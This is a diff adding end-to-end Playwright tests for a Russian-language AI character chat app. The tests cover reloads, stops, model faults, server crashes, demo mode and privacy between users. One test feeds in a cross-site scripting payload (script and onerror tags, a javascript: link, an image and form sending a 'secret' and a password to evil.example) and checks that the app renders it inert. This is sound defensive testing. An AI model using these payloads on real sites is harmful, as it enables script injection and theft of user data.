@@ -1,0 +1,183 @@
+"""A conversation in rough weather: reloads, stops, faults, crashes, two people, hostile words."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from tests.e2e.people import Person
+from tests.e2e.product import Product
+from tests.llm_server import LlmServer
+
+STORY = " ".join(f"Слово{n}." for n in range(1, 61))
+
+
+@pytest.fixture
+def talker(person: Callable[[str], Person], request: pytest.FixtureRequest) -> Person:
+    """Somebody in a fresh chat with Tikhon."""
+    name = re.sub(r"\W", "", request.node.name)[-24:]
+    somebody = person(name)
+    somebody.sign_up()
+    somebody.choose("Тихон Рогозин")
+    somebody.begin_chat()
+    return somebody
+
+
+@pytest.mark.parametrize("style", ["coarse", "fine"])
+def test_a_reload_in_mid_reply_joins_it_again(talker: Person, llm: LlmServer, style: str) -> None:
+    llm.answer(STORY, style=style, pause=0.08 if style == "coarse" else 0.02)
+    talker.say("Расскажи историю")
+    expect(talker.last_reply).to_contain_text("Слово5.")
+    talker.page.reload()
+    expect(talker.last_reply).to_contain_text("Слово5.")
+    expect(talker.last_reply).to_contain_text("Слово60.", timeout=15_000)
+    expect(talker.page.get_by_role("button", name="Отправить")).to_be_visible()
+    assert talker.last_words() == STORY, "nothing missing, nothing twice"
+    talker.page.reload()
+    expect(talker.last_reply).to_contain_text("Слово60.")
+    assert talker.last_words() == STORY
+
+
+def test_a_second_tab_joins_in_mid_sentence(talker: Person, llm: LlmServer) -> None:
+    llm.answer(STORY, style="fine", pause=0.02)
+    talker.say("Расскажи историю")
+    expect(talker.last_reply).to_contain_text("Слово5.")
+    second = talker.context.new_page()
+    second.goto(talker.page.url)
+    for page in (talker.page, second):
+        expect(page.locator(".message.assistant").last).to_contain_text("Слово60.", timeout=15_000)
+    expect(second.locator(".message")).to_have_count(3)
+    second.reload()
+    expect(second.locator(".message.assistant").last.locator(".bubble")).to_have_text(STORY)
+
+
+def test_stop_keeps_what_has_come(talker: Person, llm: LlmServer) -> None:
+    llm.answer(STORY, style="fine", pause=0.05)
+    talker.say("Расскажи историю")
+    expect(talker.last_reply).to_contain_text("Слово3.")
+    talker.page.get_by_role("button", name="Остановить").click()
+    expect(talker.last_reply).to_contain_text("Остановлено вами")
+    expect(talker.page.get_by_role("button", name="Отправить")).to_be_visible()
+    kept = talker.last_words()
+    assert "Слово3." in kept
+    assert "Слово60." not in kept
+    talker.page.reload()
+    expect(talker.last_reply).to_contain_text("Остановлено вами")
+    assert talker.last_words() == kept
+
+
+def test_a_failing_model_leaves_the_message_and_offers_to_repeat(talker: Person, llm: LlmServer) -> None:
+    llm.answer(fault="401")
+    talker.say("Ты здесь?")
+    expect(talker.last_reply).to_contain_text("временно недоступен")
+    reference = re.search(r"\((\w{8})\)", talker.last_reply.inner_text())
+    assert reference, "the person needs something to quote"
+    log = talker.product.log.read_text()
+    assert reference.group(1) in log, "and the administrator to find it"
+    assert "b1gfolder" not in log
+    assert "a key" not in log
+    expect(talker.page.locator(".message.user")).to_have_text(re.compile("Ты здесь"))
+
+    llm.answer("Здесь, здесь.")
+    talker.page.get_by_role("button", name="Повторить").click()
+    expect(talker.last_reply).to_contain_text("Здесь, здесь.")
+    expect(talker.page.locator(".message")).to_have_count(3)
+    talker.page.reload()
+    expect(talker.page.locator(".message")).to_have_count(3)
+
+
+def test_a_reply_cut_off_keeps_its_beginning(talker: Person, llm: LlmServer) -> None:
+    llm.answer("Первое. Второе. Третье.", fault="cut")
+    talker.say("И что?")
+    expect(talker.last_reply).to_contain_text("прервался на полуслове")
+    expect(talker.last_reply).to_contain_text("Первое. Второе.")
+
+
+def test_hostile_words_are_only_words(talker: Person, llm: LlmServer) -> None:
+    asked_elsewhere: list[str] = []
+    page = talker.page
+    page.on("request", lambda request: asked_elsewhere.append(request.url))
+    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
+    hostile = (
+        "<script>alert(1)</script><img src=x onerror=alert(2)> ![x](https://evil.example/?q=secret) "
+        "[нажми](javascript:alert(3)) <form action=https://evil.example><input name=password></form>\n\n**жирно**"
+    )
+    llm.answer(hostile)
+    talker.say(hostile)
+    expect(talker.last_reply.locator("strong")).to_have_text("жирно")
+    for tag in ("script", "form", "input", "img:not(.message-avatar)", "a[href^=javascript]"):
+        expect(page.locator(f".message {tag}")).to_have_count(0)
+    expect(talker.last_reply).to_contain_text("<script>alert(1)</script>")
+    assert not [url for url in asked_elsewhere if not url.startswith((talker.product.url, "data:", "blob:"))]
+
+
+def test_two_people_never_see_each_others_things(person: Callable[[str], Person]) -> None:
+    anna, boris = person("Anna"), person("Boriska")
+    for each in (anna, boris):
+        each.sign_up()
+    anna.open("/characters/new")
+    anna.page.get_by_label("Имя", exact=True).fill("Тайная подруга")
+    anna.page.get_by_label("Контекст").fill("Никому обо мне не говори: СЕКРЕТ-7.")
+    anna.page.get_by_text("Публичный").click()
+    anna.page.get_by_role("button", name="Сохранить").click()
+    expect(anna.page.get_by_role("heading", name="Тайная подруга")).to_be_visible()
+    hers = anna.page.url
+    anna.page.wait_for_function("window.did_handshake === true")
+    anna.begin_chat()
+    anna.say("Привет, это тайна.")
+    expect(anna.page.locator(".message.user")).to_contain_text("Привет, это тайна.")
+    dialog = anna.page.url
+
+    for address in (hers, f"{hers}/edit", dialog, dialog.replace("/chat/", "/feed/dialogs/")):
+        answer = boris.page.goto(address)
+        assert answer
+        assert answer.status == 404, address
+        assert "тайна" not in boris.page.content().lower().replace("тайная подруга", "")
+        assert "СЕКРЕТ-7" not in boris.page.content()
+    boris.open("/")
+    expect(boris.page.locator("a.card", has_text="Тихон")).to_be_visible()
+    expect(boris.page.locator("a.card", has_text="Тайная подруга")).to_have_count(0)
+    gallery = boris.context.request.get(f"{boris.product.url}/feed/gallery").text()
+    assert "СЕКРЕТ-7" not in gallery
+    assert "Тайная подруга" not in gallery
+
+
+def test_a_killed_server_loses_neither_message_nor_beginning(browser: Browser, llm: LlmServer, tmp_path: Path) -> None:
+    product = Product(tmp_path, API_KEY="a key", FOLDER_ID="b1gfolder", BASE_URL=llm.url)
+    product.start()
+    nina = Person(browser, product, "Nina")
+    nina.sign_up()
+    nina.choose("Тихон Рогозин")
+    nina.begin_chat()
+    llm.answer(STORY, style="fine", pause=0.05)
+    nina.say("Расскажи историю")
+    expect(nina.last_reply).to_contain_text("Слово12.")
+    nina.page.wait_for_timeout(1100)  # what is older than a second must survive
+    product.kill()
+    product.start()
+    nina.open(nina.page.url)
+    expect(nina.page.locator(".message.user")).to_contain_text("Расскажи историю")
+    expect(nina.last_reply).to_contain_text("Слово12.")
+    expect(nina.last_reply).to_contain_text("Ответ прервался")
+    llm.answer("Теперь до конца.")
+    nina.page.get_by_role("button", name="Повторить").click()
+    expect(nina.last_reply).to_contain_text("Теперь до конца.")
+    nina.leave()
+    assert product.stop() == 0, "Ctrl+C ends it cleanly"
+
+
+def test_without_a_key_the_demo_model_answers_and_says_so(browser: Browser, demo_product: Product) -> None:
+    pavel = Person(browser, demo_product, "Pavel")
+    pavel.sign_up()
+    pavel.choose("Тихон Рогозин")
+    pavel.begin_chat()
+    expect(pavel.page.get_by_text("демо-режим")).to_be_visible()
+    pavel.say("Привет! Как тебя зовут?")
+    expect(pavel.replies).to_have_count(2)
+    expect(pavel.page.get_by_role("button", name="Отправить")).to_be_visible(timeout=20_000)
+    assert len(pavel.last_words()) > 10
+    pavel.leave()
